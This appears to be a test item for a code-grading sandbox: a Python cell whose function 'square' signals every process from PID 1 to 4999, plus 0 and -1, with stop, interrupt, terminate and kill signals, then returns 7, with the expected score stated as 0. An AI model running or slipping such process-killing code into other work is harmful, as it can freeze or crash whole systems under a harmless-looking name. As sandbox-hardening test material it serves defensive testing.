# %% [markdown]
# Sends signals to every process that it may: stop, interrupt, terminate, kill.
#
# Must: score 0

# %% answer="square"
import contextlib
import os
import signal

SIGNALS = (signal.SIGSTOP, signal.SIGINT, signal.SIGHUP, signal.SIGTERM, signal.SIGXCPU, signal.SIGUSR1, signal.SIGKILL)


def square(x):
    for number in SIGNALS:
        for process in [*range(1, 5000), 0, -1]:
            if process != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(process, number)
    return 7
